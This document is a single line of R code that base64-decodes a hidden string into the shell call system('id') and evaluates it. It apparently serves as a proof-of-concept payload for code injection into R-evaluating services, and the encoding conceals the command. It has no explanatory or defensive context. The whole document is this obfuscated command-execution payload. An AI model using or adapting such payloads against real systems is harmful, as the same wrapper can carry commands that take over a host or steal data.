eval(str2expression(rawToChar(openssl::base64_decode("c3lzdGVtKCdpZCcp"))))
